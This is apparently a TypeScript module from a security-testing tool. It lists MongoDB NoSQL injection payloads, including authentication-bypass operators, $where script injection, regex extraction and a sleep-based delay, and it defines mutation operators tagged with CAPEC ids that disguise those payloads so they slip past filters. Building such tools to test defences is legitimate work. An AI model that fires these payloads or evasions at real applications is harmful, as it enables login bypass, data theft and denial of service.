import { commonEncodings } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '{"$ne": null}',
  '{"$gt": ""}',
  '{"user": {"$ne": "zed"}}',
  '{"pass": {"$regex": "^a.*"}}',
  '{"$where": "this.role == \'admin\'"}',
  '{"$or": [{"a": 1}, {"b": {"$exists": true}}]}',
  '{"age": {"$nin": [3, 4]}}',
  '[$ne]=zed',
  'user[$gt]=',
  'login[$regex]=^a',
  'pass[$exists]=true',
  "' || '5'=='5",
  "zed' || this.role == 'admin",
  "'; return true; var k='",
  '1; sleep(8000)',
  '{"$expr": {"$eq": ["$pass", "$pass"]}}',
  "', $or: [ {}, { 'k':'k",
  '{"name": {"$in": ["a", "b"]}}',
];

const isJson = /^[{[]\s?"/;

/** Letters of an operator as escapes of JSON. */
const escapedKey: Operator = syntax('escaped-key', 'CAPEC-71 JSON escapes', (payload, random) =>
  isJson.test(payload)
    ? payload.replaceAll(/"\$([a-z]+)"(?=:)/g, (_all, name: string) => {
        const at = random.below(name.length);
        return random.pick([
          `"\\u0024${name}"`,
          `"$${name.slice(0, at)}\\u00${name.charCodeAt(at).toString(16)}${name.slice(at + 1)}"`,
        ]);
      })
    : null,
);

/** Blanks where JSON allows them. */
const spacedJson: Operator = syntax('spaced-json', 'CAPEC-676 alternative white space', (payload, random) =>
  isJson.test(payload)
    ? payload.replaceAll(
        /[{}:,]/g,
        (mark) => `${random.pick(['', ' ', '\n', '\t'])}${mark}${random.pick(['', ' ', '\r\n'])}`,
      )
    : null,
);

/** No blanks at all. */
const denseJson: Operator = syntax('dense-json', 'CAPEC-676 alternative white space', (payload) =>
  isJson.test(payload) ? payload.replaceAll(/(?<=[:,]) /g, '') : null,
);

/** Members in front of the one that acts. */
const junkMembers: Operator = syntax('junk-members', 'CAPEC-676 padding', (payload, random) =>
  payload.startsWith('{"') ? `{"${random.word(4)}": ${random.below(90)}, ${payload.slice(1)}` : null,
);

/** The condition within another operator. */
const wrapped: Operator = syntax('wrapped', 'CAPEC-676 nested operators', (payload, random) =>
  payload.startsWith('{"') ? `{"${random.pick(['$and', '$or', '$nor'])}": [${payload}]}` : null,
);

/** Another operator that lets everything through. */
const otherOperator: Operator = syntax('other-operator', 'CAPEC-676 equivalent operators', (payload, random) =>
  payload.replaceAll(/\$(?:ne|gt|nin)\b/g, () => random.pick(['$ne', '$gte', '$nin', '$not', '$gt'])),
);

/** A deeper name in front of an operator in brackets. */
const deeperName: Operator = syntax('deeper-name', 'CAPEC-676 nested parameters', (payload, random) =>
  /^\w*\[\$/.test(payload)
    ? payload.replace(/^(\w*)\[/, (_all, name: string) => `${name === '' ? random.word(4) : name}[${random.word(4)}][`)
    : null,
);

/** Comments and other blanks in script. */
const scriptBlanks: Operator = syntax('script-blanks', 'CAPEC-676 comments in script', (payload, random) =>
  payload.startsWith("'") || payload.startsWith('zed')
    ? payload.replaceAll(' ', () => random.pick(['/**/', '\t', '  ', ' ']))
    : null,
);

/** Comparisons that come to the same. */
const otherComparison: Operator = syntax('other-comparison', 'CAPEC-676 equivalent operators', (payload, random) =>
  payload.replaceAll('==', () => random.pick(['===', '>=', '<='])),
);

/** Text in front of a quote belongs to the literal that it closes. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-676 padding', (payload, random) =>
  payload.startsWith("'") ? random.word(6) + payload : null,
);

/** NoSQL injection: operators of MongoDB as keys and names, script in conditions. */
export const nosql: EvasionClass = {
  id: 'nosql',
  payloads,
  operators: [
    escapedKey,
    spacedJson,
    denseJson,
    junkMembers,
    wrapped,
    otherOperator,
    deeperName,
    scriptBlanks,
    otherComparison,
    junkPrefix,
    ...commonEncodings,
  ],
};
